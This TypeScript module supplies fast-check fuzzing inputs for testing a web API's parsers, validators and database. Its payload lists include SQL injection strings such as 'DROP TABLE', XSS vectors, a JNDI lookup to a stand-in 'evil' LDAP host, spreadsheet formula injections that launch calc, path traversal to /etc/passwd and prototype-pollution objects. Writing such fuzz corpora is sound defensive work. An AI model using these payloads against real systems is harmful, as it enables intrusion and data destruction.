import fc from 'fast-check';

/**
 * Values that hurt: the vocabulary the fuzzer draws from when it leaves the happy path.
 *
 * Two markers keep counterexamples readable and cheap to shrink: `RawJson` is spliced into a
 * JSON body verbatim (so `1e400`, `-0` or a 20,000-deep array reach the parser as written),
 * and `Huge` stands for a long string that is only built when the request is sent.
 */
export class RawJson {
  constructor(readonly text: string) {}
  [fc.toStringMethod](): string {
    return `RawJson(${this.text.length > 60 ? `${this.text.slice(0, 60)}…(${this.text.length} chars)` : this.text})`;
  }
}

export class Huge {
  constructor(
    readonly unit: string,
    readonly count: number,
  ) {}
  build(): string {
    return this.unit.repeat(this.count);
  }
  get length(): number {
    return this.unit.length * this.count;
  }
  [fc.toStringMethod](): string {
    return `Huge(${JSON.stringify(this.unit)} × ${this.count})`;
  }
}

/** The request body limit of the app (BODY_LIMIT, 1mb by default). */
export const BODY_LIMIT_BYTES = 1024 * 1024;

export const sqlInjections = [
  "' OR 1=1 --",
  "'; DROP TABLE person; --",
  '" OR ""="',
  "1' AND pg_sleep(5) IS NULL --",
  "'); SELECT pg_sleep(5); --",
  "admin'--",
  '1; DELETE FROM "user"',
  "%' OR '%'='",
  '\\',
  "''",
  '$1',
  '?',
];

export const markupInjections = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://evil/a}',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  '%s%s%s%s%n',
  '\r\n\r\nHTTP/1.1 200 OK\r\n',
];

/** Unicode that normalizes, hides, reverses or does not exist. */
export const unicodeEdgeCases = [
  'Nguye\u0302\u0303n Thi\u0323 Hu\u031bo\u031bng', // NFD Vietnamese
  'Đặng\u200b Văn\u200c Đức\u200d\ufeff', // zero-width characters and a BOM
  '\u202eNguyễn\u202c', // right-to-left override
  '\u202dabc\u202e\u2066\u2069',
  '👨‍👩‍👧‍👦🇻🇳💥🔥',
  '\u0000',
  'a\u0000b',
  '\u0000\u0000\u0000',
  '\ud800', // a lone surrogate
  '\udfff\ud800',
  '\uffff\ufffe',
  '\u0085\u2028\u2029',
  '\t\n\r\u000b\u000c',
  '   ',
  '',
  'ĐĂÂÊÔƠƯđăâêôơư',
  'İıſK', // case folding traps
  'ﬁ',
  '\u{1F600}'.repeat(50),
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
];

export const prototypeKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
];

/** Strings that look like other things. */
export const lookalikes = [
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-Infinity',
  '-1',
  '0',
  '-0',
  '1e309',
  '0x10',
  '1_000',
  ' 1',
  '1 ',
  '1.5',
  'true',
  'false',
  '[]',
  '{}',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '2026-01-01T25:00:00+07:00',
  '9999-12-31T23:59:59+14:00',
  '+275760-09-13',
  '2026-W01',
];

export const nastyStringList = [
  ...sqlInjections,
  ...markupInjections,
  ...unicodeEdgeCases,
  ...prototypeKeys,
  ...lookalikes,
];

const syllables = [
  'Nguyễn',
  'Trần',
  'Lê',
  'Phạm',
  'Hoàng',
  'Vũ',
  'Đặng',
  'Thị',
  'Văn',
  'Hương',
  'Đức',
  'Ất',
  'Bính',
  'Quỳnh',
  'Uyên',
  'Phúc',
  'Hải',
  'Hậu',
];

/** Vietnamese words, sometimes decomposed (NFD) or salted with zero-width characters. */
export const vietnameseText = fc
  .tuple(
    fc.array(fc.constantFrom(...syllables), { minLength: 1, maxLength: 5 }),
    fc.constantFrom('nfc', 'nfd', 'zw', 'spaces'),
  )
  .map(([words, form]) => {
    const text = words.join(' ');
    if (form === 'nfd') return text.normalize('NFD');
    if (form === 'zw') return words.join('\u200b ');
    if (form === 'spaces') return `  ${words.join('   ')}  `;
    return text;
  });

/** A string that is long but stays under the body limit, or passes it (rarely: they are slow). */
export const longString = fc.oneof(
  {
    weight: 20,
    arbitrary: fc.constantFrom(100, 256, 1001, 5000, 20_000).map((n) => new Huge('x', n)),
  },
  {
    weight: 4,
    arbitrary: fc.constantFrom('ễ', '😀', '\u0000', "'").map((unit) => new Huge(unit, 70_000)),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(BODY_LIMIT_BYTES - 2048, BODY_LIMIT_BYTES + 1, BODY_LIMIT_BYTES + 200_000)
      .map((n) => new Huge('a', n)),
  },
);

export const nastyString: fc.Arbitrary<string | Huge> = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom(...nastyStringList) },
  { weight: 4, arbitrary: vietnameseText },
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...sqlInjections, ...markupInjections),
        fc.constantFrom(...unicodeEdgeCases),
      )
      .map(([a, b]) => a + b),
  },
  { weight: 1, arbitrary: longString },
);

/** Numbers a client may send; JSON cannot carry NaN or Infinity, so those go as raw tokens. */
export const nastyNumber: fc.Arbitrary<number | RawJson> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      0,
      -0,
      -1,
      1,
      0.5,
      -0.5,
      1.5,
      2026.0000001,
      1899,
      2100,
      2 ** 31 - 1,
      2 ** 31,
      -(2 ** 31),
      2 ** 53,
      Number.MAX_SAFE_INTEGER + 2,
      1e21,
      1e308,
      -1e308,
      Number.MIN_VALUE,
      Number.MAX_VALUE,
    ),
  },
  { weight: 2, arbitrary: fc.integer({ min: -(2 ** 40), max: 2 ** 40 }) },
  { weight: 2, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  {
    weight: 2,
    arbitrary: fc
      .constantFrom(
        '1e400',
        '-1e400',
        '-0',
        '1.0',
        '1E2',
        '0.00000000000000000000000001',
        '123456789012345678901234567890',
        '1e-400',
        '0e0',
      )
      .map((text) => new RawJson(text)),
  },
);

/** Any JSON value, chosen to break parsers, validators and the database. */
export const nastyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 10, arbitrary: nastyString },
    { weight: 5, arbitrary: nastyNumber },
    { weight: 2, arbitrary: fc.constantFrom(null, true, false, [], {}) },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 3 }) },
    {
      weight: 1,
      arbitrary: fc.dictionary(
        fc.oneof(fc.constantFrom(...prototypeKeys), fc.string({ maxLength: 8 })),
        tie('value'),
        { maxKeys: 3 },
      ),
    },
    { weight: 1, arbitrary: fc.constantFrom(...pollutionPayloads()) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(50, 1000, 20_000)
        .chain((depth) =>
          fc.constantFrom(
            new RawJson('['.repeat(depth) + ']'.repeat(depth)),
            new RawJson('{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
          ),
        ),
    },
  ),
})).value;

/** Objects whose keys try to reach Object.prototype. */
export function pollutionPayloads(): unknown[] {
  return [
    new RawJson('{"__proto__":{"fuzzPolluted":"yes"}}'),
    new RawJson('{"constructor":{"prototype":{"fuzzPolluted":"yes"}}}'),
    Object.defineProperty({}, '__proto__', { value: { fuzzPolluted: 'yes' }, enumerable: true }),
    { constructor: { prototype: { fuzzPolluted: 'yes' } } },
  ];
}

/** True when something wrote to Object.prototype (the app runs in this very process). */
export function prototypePolluted(): string | undefined {
  const probe = {} as Record<string, unknown>;
  if (probe.fuzzPolluted !== undefined) return 'Object.prototype.fuzzPolluted is set';
  const keys = Object.keys(Object.prototype);
  if (keys.length > 0) return `Object.prototype has enumerable keys: ${keys.join(', ')}`;
  return undefined;
}

/**
 * JSON text of a value with the markers expanded. Keys are written as they are, so an own
 * `__proto__` key reaches the server as such.
 */
export function serializeJson(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (value instanceof Huge) return JSON.stringify(value.build());
  if (Array.isArray(value)) return `[${value.map(serializeJson).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.keys(value)
      .map(
        (key) => `${JSON.stringify(key)}:${serializeJson((value as Record<string, unknown>)[key])}`,
      )
      .join(',')}}`;
  }
  if (typeof value === 'number' && !Number.isFinite(value)) return 'null';
  if (value === undefined) return 'null';
  return JSON.stringify(value);
}

/** A query or form value as text: markers expanded, other values the way a naive client would write them. */
export function asText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (value instanceof Huge) return value.build();
  if (typeof value === 'string') return value;
  if (value === null || value === undefined) return String(value);
  if (typeof value === 'object') return serializeJson(value);
  return String(value);
}
